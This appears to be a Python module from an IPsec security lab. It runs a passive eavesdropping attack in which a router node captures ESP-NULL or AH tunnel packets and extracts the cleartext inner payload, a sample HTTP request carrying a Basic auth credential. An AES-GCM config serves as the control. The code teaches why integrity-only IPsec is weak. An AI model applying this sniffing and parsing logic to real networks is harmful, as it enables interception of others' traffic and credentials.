"""esp-null: reading "protected" traffic that integrity-only IPsec leaves in the clear.

ESP with the NULL cipher (RFC 2410) and AH (RFC 4302) authenticate packets but do not
encrypt them: RFC 4303 §3.2 makes confidentiality optional, and RFC 2410 is explicit that
ENCR_NULL offers none. An on-path attacker reads the inner packet as it would read
unprotected traffic; Wireshark even guesses ESP-NULL payloads heuristically. The fix is an
encrypting transform, aes128gcm16 (RFC 4106): the same bytes are then ciphertext.

The attack targets only the lab's own hosts inside the topology's namespaces: h1 sends a
secret to a service on h2 (10.2.0.10) through gw1 and gw2, and mallory, the router between
them, reads it off its interface. Variant ``ah`` (``config="ah"``) runs it against AH.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ipseclab.attacks.common import (
    AttackResult,
    NodeTool,
    check_config,
    maybe_lab,
    sa_counters,
    send_udp,
    settle,
)
from ipseclab.attacks.inet import ipv4_header_ok, printable, udp_payload

NAME = "esp-null"
WEAK = "weak"  # topologies/attacks/esp-null/weak: ESP with ENCR_NULL and HMAC-SHA-256-128
AH = "ah"  # topologies/attacks/esp-null/ah: AH with HMAC-SHA-256-128
RECOMMENDED = "recommended"  # aes128gcm16
CONFIGS = (WEAK, AH, RECOMMENDED)
SECRET = b"GET /vault HTTP/1.0\r\nAuthorization: Basic bGFiOnNlY3JldC00NzEx\r\n\r\n"
PORT = 8080


def inner_packet(packet: bytes) -> bytes | None:
    """The inner IPv4 packet of a tunnel-mode ESP-NULL or AH packet, if it is in the clear.

    What the attacker does not know it guesses: after the ESP header (8 bytes, no IV for
    NULL) or after the AH header (its own length field, RFC 4302 §2.2) there must be an IPv4
    header whose checksum verifies; ciphertext passes that test with probability 2^-16.
    """
    ihl = (packet[0] & 0x0F) * 4
    proto = packet[9]
    if proto == 50:
        start = ihl + 8
    elif proto == 51 and len(packet) > ihl + 2:
        start = ihl + (packet[ihl + 1] + 2) * 4
    else:
        return None
    inner = packet[start:]
    return inner if ipv4_header_ok(inner[:60]) else None


def read_secrets(packets: list[bytes]) -> list[bytes]:
    """What mallory reads: the UDP data of every inner packet in the clear."""
    found = []
    for packet in packets:
        inner = inner_packet(packet)
        udp = udp_payload(inner) if inner is not None else None
        if udp is not None:
            found.append(udp[2])
    return found


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        secret: bytes = SECRET) -> AttackResult:
    """h1 sends ``secret`` to h2; mallory captures on its gw1-side interface and reads it."""
    check_config(config, CONFIGS)
    with maybe_lab(lab, NAME, config, workdir) as lab:
        proto = "51" if config == AH else "50"
        listener = NodeTool(lab, "h2", "services", "listen", str(PORT), "8", "1")
        sniffer = NodeTool(lab, "mallory", "mallory", "sniff", "eth0", proto, "4", "6",
                           "--dst", "198.51.100.2")
        try:
            send_udp(lab, "h1", "h2", PORT, [secret])
            delivered = listener.result()
            settle(0.2)
            captured = [bytes.fromhex(h) for h in sniffer.finish()["packets"]]
        finally:
            listener.stop()
            sniffer.stop()
        counters = sa_counters("gw2")
    learned = read_secrets(captured)
    ok = secret in learned
    if ok:
        evidence = (f"mallory read h1's message to h2 off the wire ({len(captured)} packets"
                    f" captured):\n  {printable(secret)!r}")
    else:
        sample = captured[0][36:84].hex() if captured else "(nothing captured)"
        evidence = (f"mallory captured {len(captured)} packets but found no inner packet in"
                    f" the clear; the payload is ciphertext: {sample}...")
    return AttackResult(NAME, config, ok, evidence, details={
        "captured": len(captured), "learned": [x.decode(errors="replace") for x in learned],
        "delivered": len(delivered.get("messages", []))}, counters=counters)
